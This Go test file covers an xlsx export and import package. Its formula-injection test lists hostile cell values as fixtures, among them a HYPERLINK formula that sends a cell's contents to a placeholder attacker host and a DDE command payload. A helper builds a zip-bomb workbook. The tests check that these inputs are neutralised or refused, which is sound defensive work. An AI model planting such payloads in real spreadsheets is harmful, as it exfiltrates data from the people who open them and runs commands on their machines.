package xlsx

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"encoding/xml"
	"errors"
	"fmt"
	"hash/crc32"
	"io"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"pufa/internal/app"
	"pufa/internal/upload"
)

var shanghai = time.FixedZone("CST", 8*3600)

// grade is a named type with a String method, like the domain's enums.
type grade int

func (g grade) String() string { return [...]string{"优秀", "良好"}[g] }

// score is a named numeric type without one.
type score float64

// export writes one sheet and returns the workbook.
func export(t testing.TB, name string, headers []string, rows ...[]any) []byte {
	t.Helper()
	w, err := NewWriter(shanghai)
	if err != nil {
		t.Fatal(err)
	}
	defer w.Close()
	if err := w.AddSheet(name, headers); err != nil {
		t.Fatal(err)
	}
	for _, r := range rows {
		if err := w.WriteRow(r...); err != nil {
			t.Fatal(err)
		}
	}
	var buf bytes.Buffer
	if err := w.Finish(&buf); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// xmlCell is a <c> element of sheet XML, to check what was really written.
type xmlCell struct {
	R  string  `xml:"r,attr"`
	T  string  `xml:"t,attr"`
	F  *string `xml:"f"`
	V  string  `xml:"v"`
	IS string  `xml:"is>t"`
}

// sheetCells parses the first worksheet's XML of a workbook.
func sheetCells(t *testing.T, data []byte) map[string]xmlCell {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	rc, err := zr.Open("xl/worksheets/sheet1.xml")
	if err != nil {
		t.Fatal(err)
	}
	defer rc.Close()
	var ws struct {
		Cells []xmlCell `xml:"sheetData>row>c"`
	}
	if err := xml.NewDecoder(rc).Decode(&ws); err != nil {
		t.Fatal(err)
	}
	m := map[string]xmlCell{}
	for _, c := range ws.Cells {
		m[c.R] = c
	}
	return m
}

func TestWriter_formulaInjection(t *testing.T) {
	hostile := []string{
		"=1+1",
		`=HYPERLINK("http://evil.example/?"&A1,"点击查看")`,
		"+SUM(A1:A9)",
		"-2+3",
		"@SUM(1)",
		"\t=1+1",
		"\r=1+1",
		"=cmd|' /C calc'!A0",
	}
	row := make([]any, len(hostile))
	for i, s := range hostile {
		row[i] = s
	}
	headers := make([]string, len(hostile))
	for i := range headers {
		headers[i] = "列" + strconv.Itoa(i+1)
	}
	data := export(t, "注入", headers, row)

	// What is on disk: inline strings with the quote, and no formula.
	cells := sheetCells(t, data)
	for i, s := range hostile {
		ref, _ := excelize.CoordinatesToCellName(i+1, 2)
		c := cells[ref]
		if c.F != nil {
			t.Errorf("%s: formula %q written", ref, *c.F)
		}
		if c.T != "inlineStr" || c.IS != "'"+s {
			t.Errorf("%s: t=%q text=%q, want inlineStr %q", ref, c.T, c.IS, "'"+s)
		}
	}

	// What excelize sees: text, no formula.
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	for i, s := range hostile {
		ref, _ := excelize.CoordinatesToCellName(i+1, 2)
		if formula, err := f.GetCellFormula("注入", ref); err != nil || formula != "" {
			t.Errorf("%s: formula %q, %v", ref, formula, err)
		}
		if v, _ := f.GetCellValue("注入", ref); v != "'"+s {
			t.Errorf("%s: value %q", ref, v)
		}
	}

	// What an import sees: the user's text, the quote removed.
	sheet, err := ReadSheet(data, upload.DefaultSpreadsheet(), 10)
	if err != nil {
		t.Fatal(err)
	}
	for i, s := range hostile {
		want := strings.TrimSpace(s) // the import trims, so "\t=1+1" comes back "=1+1"
		if got := sheet.Rows[0][i]; got != want {
			t.Errorf("column %d: got %q, want %q", i+1, got, want)
		}
	}
}

func TestWriter_types(t *testing.T) {
	when := time.Date(2024, 5, 1, 1, 30, 0, 0, time.UTC) // 09:30 in Shanghai
	var nilTime *time.Time
	name := "=张三"
	data := export(t, "类型", []string{"数", "负数", "浮点", "大整数", "时间", "空时间", "布尔", "枚举", "分数", "NaN", "指针", "空"},
		[]any{42, -7, 3.5, int64(110101199003077777), when, nilTime, true, grade(1), score(92.5), nanValue(), &name, nil},
	)
	cells := sheetCells(t, data)
	for ref, want := range map[string]xmlCell{
		"A2": {T: "", V: "42"},
		"B2": {T: "", V: "-7"},
		"C2": {T: "", V: "3.5"},
		"D2": {T: "inlineStr", IS: "110101199003077777"},
		"G2": {T: "b", V: "1"},
		"H2": {T: "inlineStr", IS: "良好"},
		"I2": {T: "", V: "92.5"},
		"K2": {T: "inlineStr", IS: "'=张三"},
	} {
		got := cells[ref]
		if got.T != want.T || got.V != want.V || got.IS != want.IS {
			t.Errorf("%s: got %+v, want %+v", ref, got, want)
		}
	}
	for _, ref := range []string{"F2", "J2", "L2"} {
		if c, ok := cells[ref]; ok && (c.V != "" || c.IS != "") {
			t.Errorf("%s: want empty, got %+v", ref, c)
		}
	}

	sheet, err := ReadSheet(data, upload.DefaultSpreadsheet(), 10)
	if err != nil {
		t.Fatal(err)
	}
	if got := sheet.Col(sheet.Rows[0], "时间"); got != "2024-05-01 09:30" {
		t.Errorf("time cell reads %q, want 2024-05-01 09:30 (Shanghai)", got)
	}
	if got := sheet.Col(sheet.Rows[0], "大整数"); got != "110101199003077777" {
		t.Errorf("large integer reads %q", got)
	}
}

// nanValue hides NaN from vet's constant checks.
func nanValue() float64 { z := 0.0; return z / z }

func TestWriter_headerLayout(t *testing.T) {
	data := export(t, "台账", []string{"序号", "责任单位名称", "A"}, []any{1, "区司法局", strings.Repeat("很长的说明", 30)})
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()

	panes, err := f.GetPanes("台账")
	if err != nil {
		t.Fatal(err)
	}
	if !panes.Freeze || panes.YSplit != 1 || panes.TopLeftCell != "A2" {
		t.Errorf("panes %+v, want the header row frozen", panes)
	}
	for _, ref := range []string{"A1", "B1", "C1"} {
		id, err := f.GetCellStyle("台账", ref)
		if err != nil {
			t.Fatal(err)
		}
		st, err := f.GetStyle(id)
		if err != nil {
			t.Fatal(err)
		}
		if st.Font == nil || !st.Font.Bold {
			t.Errorf("%s: header not bold", ref)
		}
	}
	for col, want := range map[string]float64{
		"A": minColWidth, // "序号" is 4 columns wide + 2
		"B": 14,          // six CJK characters count double: 12 + 2
		"C": maxColWidth, // capped
	} {
		if got, _ := f.GetColWidth("台账", col); got != want {
			t.Errorf("column %s width %v, want %v", col, got, want)
		}
	}
}

func TestWriter_sheets(t *testing.T) {
	w, err := NewWriter(nil)
	if err != nil {
		t.Fatal(err)
	}
	defer w.Close()
	if err := w.WriteRow("x"); err == nil {
		t.Error("WriteRow before AddSheet succeeded")
	}
	if err := w.AddSheet("一季度", []string{"单位"}); err != nil {
		t.Fatal(err)
	}
	w.WriteRow("甲")
	if err := w.AddSheet("二季度: 汇总/明细?", []string{"单位"}); err != nil {
		t.Fatal(err)
	}
	w.WriteRow("乙")
	if err := w.AddSheet("一季度", nil); err == nil {
		t.Error("duplicate sheet name accepted")
	}
	var buf bytes.Buffer
	if err := w.Finish(&buf); err != nil {
		t.Fatal(err)
	}
	if err := w.Finish(&buf); err == nil {
		t.Error("second Finish succeeded")
	}

	first, err := ReadSheet(buf.Bytes(), upload.DefaultSpreadsheet(), 10)
	if err != nil {
		t.Fatal(err)
	}
	if first.Name != "一季度" || first.Rows[0][0] != "甲" {
		t.Errorf("first sheet %q rows %q", first.Name, first.Rows)
	}
	second, err := ReadSheetNamed(buf.Bytes(), upload.DefaultSpreadsheet(), 10, "二季度_ 汇总_明细_")
	if err != nil {
		t.Fatal(err)
	}
	if second.Rows[0][0] != "乙" {
		t.Errorf("second sheet rows %q", second.Rows)
	}
	_, err = ReadSheetNamed(buf.Bytes(), upload.DefaultSpreadsheet(), 10, "三季度")
	wantInvalid(t, err, `没有名为 "三季度" 的工作表`)
}

func TestSheetName(t *testing.T) {
	for in, want := range map[string]string{
		"台账":                                   "台账",
		"a/b:c?d*e[f]g\\h":                     "a_b_c_d_e_f_g_h",
		"'引号'":                                 "引号",
		"":                                     "Sheet",
		strings.Repeat("长", 40):                strings.Repeat("长", 31),
		strings.Repeat("x", 30) + "\U00020000": strings.Repeat("x", 30),
	} {
		if got := SheetName(in); got != want {
			t.Errorf("SheetName(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestReadSheet_roundTrip10k(t *testing.T) {
	const n = 10000
	w, err := NewWriter(shanghai)
	if err != nil {
		t.Fatal(err)
	}
	defer w.Close()
	if err := w.AddSheet("明细", []string{"序号", "单位名称*", "得分", "备注"}); err != nil {
		t.Fatal(err)
	}
	want := make([][]string, n)
	for i := range n {
		note := fmt.Sprintf("第%d条：谁执法谁普法", i)
		if i%1000 == 7 {
			note = "=1+" + strconv.Itoa(i) // hostile text survives the trip as text
		}
		if err := w.WriteRow(i+1, fmt.Sprintf("单位%05d", i), float64(i%100)+0.5, note); err != nil {
			t.Fatal(err)
		}
		want[i] = []string{strconv.Itoa(i + 1), fmt.Sprintf("单位%05d", i), strconv.FormatFloat(float64(i%100)+0.5, 'f', -1, 64), note}
	}
	var buf bytes.Buffer
	if err := w.Finish(&buf); err != nil {
		t.Fatal(err)
	}

	sheet, err := ReadSheet(buf.Bytes(), upload.DefaultSpreadsheet(), n)
	if err != nil {
		t.Fatal(err)
	}
	if len(sheet.Rows) != n {
		t.Fatalf("read %d rows, want %d", len(sheet.Rows), n)
	}
	for i, row := range sheet.Rows {
		if strings.Join(row, "|") != strings.Join(want[i], "|") {
			t.Fatalf("row %d: got %q, want %q", i, row, want[i])
		}
		if sheet.RowNumbers[i] != i+2 {
			t.Fatalf("row %d numbered %d", i, sheet.RowNumbers[i])
		}
	}
	if got := sheet.Col(sheet.Rows[42], "单位名称"); got != "单位00042" {
		t.Errorf("Col(单位名称) = %q", got)
	}

	_, err = ReadSheet(buf.Bytes(), upload.DefaultSpreadsheet(), n-1)
	var ae *app.Error
	if !errors.As(err, &ae) || ae.Code != app.ETOOLARGE || ae.Message != "表格超过 9999 行上限" {
		t.Fatalf("over maxRows: got %v", err)
	}
}

func TestReadSheet_userWorkbook(t *testing.T) {
	// A template as a user returns it: a hidden list sheet first, a title
	// left blank, odd spacing in headers, blank rows, a date typed in.
	f := excelize.NewFile()
	defer f.Close()
	f.SetSheetName("Sheet1", "选项")
	idx, _ := f.NewSheet("填报")
	f.SetActiveSheet(idx) // Excel cannot hide the active sheet
	if err := f.SetSheetVisible("选项", false); err != nil {
		t.Fatal(err)
	}
	f.SetSheetRow("填报", "A2", &[]any{" 单位名称 * ", "联系　人", "电话（手机）", "＊备注", "日期"})
	f.SetSheetRow("填报", "A3", &[]any{"  区教育局\u3000", "李四", "13900000000", "", ""})
	f.SetSheetRow("填报", "A6", &[]any{"区公安局", "王五"})
	f.SetCellValue("填报", "E6", time.Date(2024, 12, 4, 0, 0, 0, 0, time.UTC))
	dateStyle, _ := f.NewStyle(&excelize.Style{NumFmt: 14})
	f.SetCellStyle("填报", "E6", "E6", dateStyle)
	f.SetCellStyle("填报", "A8", "F9", dateStyle) // formatted but empty
	var buf bytes.Buffer
	if err := f.Write(&buf); err != nil {
		t.Fatal(err)
	}

	sheet, err := ReadSheet(buf.Bytes(), upload.DefaultSpreadsheet(), 100)
	if err != nil {
		t.Fatal(err)
	}
	if sheet.Name != "填报" {
		t.Fatalf("read sheet %q, want the first visible one", sheet.Name)
	}
	if len(sheet.Rows) != 2 || sheet.RowNumbers[0] != 3 || sheet.RowNumbers[1] != 6 {
		t.Fatalf("rows %q at %v", sheet.Rows, sheet.RowNumbers)
	}
	r := sheet.Rows[0]
	for header, want := range map[string]string{
		"单位名称":     "区教育局",
		"单位名称*":    "区教育局",
		"联系人":      "李四",
		"电话(手机)":   "13900000000",
		"备注":       "",
		"不存在":      "",
		"  联系 人  ": "李四",
	} {
		if got := sheet.Col(r, header); got != want {
			t.Errorf("Col(%q) = %q, want %q", header, got, want)
		}
	}
	if got := sheet.Col(sheet.Rows[1], "日期"); got != "2024-12-04" {
		t.Errorf("date typed in Excel reads %q, want 2024-12-04", got)
	}

	// A hand-built Sheet (no index) matches the same way.
	hand := &Sheet{Header: []string{"单位名称*", "电话"}}
	if got := hand.Col([]string{"甲"}, "单位名称"); got != "甲" {
		t.Errorf("hand-built Col = %q", got)
	}
	if got := hand.Col([]string{"甲"}, "电话"); got != "" {
		t.Errorf("short row Col = %q", got)
	}
}

// wantInvalid fails unless err is an *upload.InvalidError whose reason
// contains substr.
func wantInvalid(t *testing.T, err error, substr string) {
	t.Helper()
	var inv *upload.InvalidError
	if !errors.As(err, &inv) || !strings.Contains(inv.Reason, substr) {
		t.Fatalf("got %v, want *upload.InvalidError containing %q", err, substr)
	}
}

func TestReadSheet_refuses(t *testing.T) {
	good := export(t, "表", []string{"a"}, []any{"b"})

	t.Run("oversized", func(t *testing.T) {
		l := upload.DefaultSpreadsheet()
		l.MaxBytes = int64(len(good)) - 1
		_, err := ReadSheet(good, l, 10)
		var tl *upload.TooLargeError
		if !errors.As(err, &tl) {
			t.Fatalf("got %v, want *upload.TooLargeError", err)
		}
	})
	t.Run("zip bomb", func(t *testing.T) {
		_, err := ReadSheet(bombXlsx(t), upload.DefaultSpreadsheet(), 10)
		wantInvalid(t, err, "压缩比异常")
	})
	t.Run("not a zip", func(t *testing.T) {
		_, err := ReadSheet([]byte("序号,单位\n1,区司法局\n"), upload.DefaultSpreadsheet(), 10)
		wantInvalid(t, err, "不是有效的")
	})
	t.Run("docx", func(t *testing.T) {
		var buf bytes.Buffer
		zw := zip.NewWriter(&buf)
		w, _ := zw.Create("word/document.xml")
		io.WriteString(w, "<w:document/>")
		zw.Close()
		_, err := ReadSheet(buf.Bytes(), upload.DefaultSpreadsheet(), 10)
		wantInvalid(t, err, "内容是 .docx")
	})
	t.Run("empty sheet", func(t *testing.T) {
		f := excelize.NewFile()
		defer f.Close()
		var buf bytes.Buffer
		f.Write(&buf)
		_, err := ReadSheet(buf.Bytes(), upload.DefaultSpreadsheet(), 10)
		wantInvalid(t, err, "是空的")
	})
	t.Run("too wide", func(t *testing.T) {
		f := excelize.NewFile()
		defer f.Close()
		f.SetCellValue("Sheet1", "A1", "a")
		f.SetCellValue("Sheet1", "XFD2", "far")
		var buf bytes.Buffer
		f.Write(&buf)
		_, err := ReadSheet(buf.Bytes(), upload.DefaultSpreadsheet(), 10)
		var ae *app.Error
		if !errors.As(err, &ae) || ae.Code != app.ETOOLARGE {
			t.Fatalf("got %v, want ETOOLARGE", err)
		}
	})
}

// bombXlsx is a workbook whose sheet is 100 MiB of zeros, declared
// honestly (under the size limit, so the ratio check is what refuses it),
// built from one compressed MiB repeated so the test stays fast.
func bombXlsx(t *testing.T) []byte {
	t.Helper()
	zeros := make([]byte, 1<<20)
	var chunk, end bytes.Buffer
	fw, _ := flate.NewWriter(&chunk, flate.BestCompression)
	fw.Write(zeros)
	fw.Flush()
	fw.Reset(&end)
	fw.Close()
	const mib = 100
	stream := append(bytes.Repeat(chunk.Bytes(), mib), end.Bytes()...)
	var crc uint32
	for range mib {
		crc = crc32.Update(crc, crc32.IEEETable, zeros)
	}

	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	w, _ := zw.Create("xl/workbook.xml")
	io.WriteString(w, `<workbook><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>`)
	raw, err := zw.CreateRaw(&zip.FileHeader{
		Name: "xl/worksheets/sheet1.xml", Method: zip.Deflate, CRC32: crc,
		CompressedSize64: uint64(len(stream)), UncompressedSize64: mib << 20,
	})
	if err != nil {
		t.Fatal(err)
	}
	raw.Write(stream)
	zw.Close()
	return buf.Bytes()
}

// BenchmarkWriter writes 100,000 rows of 10 columns, the size of a
// province's exam-result export, and reports rows per second.
func BenchmarkWriter(b *testing.B) {
	const rows = 100000
	when := time.Date(2024, 5, 1, 9, 30, 0, 0, shanghai)
	var size int
	for b.Loop() {
		w, err := NewWriter(shanghai)
		if err != nil {
			b.Fatal(err)
		}
		w.AddSheet("成绩", []string{"序号", "姓名", "单位", "身份证号", "得分", "用时(分)", "交卷时间", "等级", "是否补考", "备注"})
		for i := range rows {
			if err := w.WriteRow(i+1, "张三", "区司法局普法科", "110101********7777", 92.5, 41, when, "优秀", false, "第一次考试"); err != nil {
				b.Fatal(err)
			}
		}
		var buf bytes.Buffer
		if err := w.Finish(&buf); err != nil {
			b.Fatal(err)
		}
		size = buf.Len()
	}
	b.ReportMetric(float64(rows*b.N)/b.Elapsed().Seconds(), "rows/s")
	b.ReportMetric(float64(size)/(1<<20), "MiB/file")
}

func TestWriter_wrapsLongText(t *testing.T) {
	w, err := NewWriter(nil)
	if err != nil {
		t.Fatal(err)
	}
	long := strings.Repeat("组织开展宪法宣传周活动，推动宪法宣传教育常态化长效化。", 4)
	if err := w.AddSheet("台账", []string{"主要任务", "状态"}); err != nil {
		t.Fatal(err)
	}
	if err := w.WriteRow(long, "进行中"); err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := w.Finish(&buf); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	for cell, wantWrap := range map[string]bool{"A2": true, "B2": false} {
		id, err := f.GetCellStyle("台账", cell)
		if err != nil {
			t.Fatal(err)
		}
		st, err := f.GetStyle(id)
		if err != nil {
			t.Fatal(err)
		}
		wrap := st.Alignment != nil && st.Alignment.WrapText
		if wrap != wantWrap {
			t.Errorf("%s wraps = %v, want %v", cell, wrap, wantWrap)
		}
	}
	if v, _ := f.GetCellValue("台账", "A2"); v != long {
		t.Errorf("A2 = %q", v)
	}
}
